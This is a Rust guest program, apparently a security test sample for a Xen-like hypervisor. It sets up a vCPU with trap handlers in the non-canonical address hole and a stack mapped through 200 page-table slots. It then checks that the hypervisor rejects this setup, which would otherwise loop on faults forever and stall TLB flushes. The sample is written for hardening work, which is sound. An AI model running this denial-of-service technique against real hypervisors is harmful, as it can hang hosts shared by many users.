//! Attack: bring up a vCPU whose handlers are in the canonical hole, on an endless stack. A hypervisor that accepts
//! it would bounce to a handler, fault on the way, bounce that fault, and so on for ever, without running the guest
//! in between; a CPU that waits for this one's flush would wait as long.

#![no_std]
#![no_main]
#![expect(unsafe_code, reason = "maps a stack without an end")]

extern crate alloc;

use alloc::boxed::Box;
use core::arch::asm;

use samples::Attack;
use xenlike_rt::abi::arch_x86::{
    FLAT_KERNEL_CS64, FLAT_KERNEL_SS64, VGCF_IN_KERNEL, VcpuGuestContext,
};
use xenlike_rt::abi::vcpu::{VCPUOP_INITIALISE, VCPUOP_UP};
use xenlike_rt::abi::xen::{DOMID_SELF, MMUEXT_TLB_FLUSH_ALL, MmuUpdate, MmuextOp};
use xenlike_rt::abi::{Errno, errno};
use xenlike_rt::memory::{allocate_page, mfn_of, pfn_of};
use xenlike_rt::paging::{self, RAM_FLAGS, TABLE_FLAGS};
use xenlike_rt::{from_long, hyper, start_info, time};

xenlike_rt::entry!(main);

const HOLE: u64 = 0x0000_8000_0000_0000;
/// L4 slots that the stack fills, downwards from its top.
const SLOTS: core::ops::Range<u64> = 1..201;
const TOP: u64 = SLOTS.end << 39;

/// Makes a page of 512 copies of one entry, read-only as a table must be. Returns its frame.
fn full_of(entry: u64) -> u64 {
    let page = allocate_page().expect("a page");
    let address = page.expose_provenance() as u64;
    // SAFETY: the page belongs to this function, and is no longer written.
    unsafe {
        page.cast::<[u64; 512]>().write([entry; 512]);
        paging::make_read_only(address).expect("read-only");
    }
    frame_at(address)
}

fn frame_at(address: u64) -> u64 {
    mfn_of(pfn_of(address)).expect("the domain's")
}

/// Maps one page at every address of [`SLOTS`].
fn endless_stack(root: u64) {
    let page = allocate_page().expect("a page").expose_provenance() as u64;
    let l1 = full_of((frame_at(page) << 12) | RAM_FLAGS);
    let l2 = full_of((l1 << 12) | TABLE_FLAGS);
    let l3 = full_of((l2 << 12) | TABLE_FLAGS);
    for slot in SLOTS {
        let link = MmuUpdate {
            ptr: (root << 12) + slot * 8,
            val: (l3 << 12) | TABLE_FLAGS,
        };
        // SAFETY: this guest uses none of these addresses.
        unsafe { paging::set_entries(&[link], DOMID_SELF) }.expect("a stack");
    }
}

/// The entry point of the vCPU. It raises an exception at once.
extern "C" fn begin() {
    // SAFETY: traps.
    unsafe { asm!("ud2") };
}

fn context(root: u64) -> Box<VcpuGuestContext> {
    let mut context = Box::new(VcpuGuestContext::default());
    context.flags = VGCF_IN_KERNEL;
    context.user_regs.rip = begin as *const () as u64;
    (context.user_regs.cs, context.user_regs.ss) = (FLAT_KERNEL_CS64, FLAT_KERNEL_SS64);
    (context.user_regs.rsp, context.kernel_sp) = (TOP, TOP);
    context.kernel_ss = u64::from(FLAT_KERNEL_SS64);
    context.ctrlreg[3] = root << 12;
    context
}

fn initialise(context: &mut VcpuGuestContext) -> Result<u64, Errno> {
    hyper::vcpu_op(VCPUOP_INITIALISE, 1, context)
}

fn main() {
    let mut attack = Attack::new("hostile-handler", "keep the hypervisor busy for ever");
    let root = frame_at(from_long(start_info().pt_base));
    endless_stack(root);
    let mut handlers = context(root);
    for trap in &mut handlers.trap_ctxt {
        trap.address = HOLE;
    }
    let outcome = initialise(&mut handlers);
    let let_in = outcome.is_ok();
    attack.refused_with("handlers in the hole", outcome, &[errno::EINVAL]);
    if let_in {
        let up = hyper::vcpu_op(VCPUOP_UP, 1, &mut 0u64);
        attack.any("it goes up", up);
        time::sleep(time::SECOND_NS);
        let flush = MmuextOp {
            cmd: MMUEXT_TLB_FLUSH_ALL,
            ..MmuextOp::default()
        };
        // SAFETY: a flush changes no mapping. Every CPU that runs a vCPU of this domain has to answer.
        let flushed = unsafe { hyper::mmuext_op(&[flush]) };
        attack.any("every CPU flushes", flushed);
    }
    let mut stacks = context(root);
    stacks.kernel_sp = HOLE;
    let outcome = initialise(&mut stacks);
    attack.refused_with("a kernel stack in the hole", outcome, &[errno::EINVAL]);
    attack.finish();
}
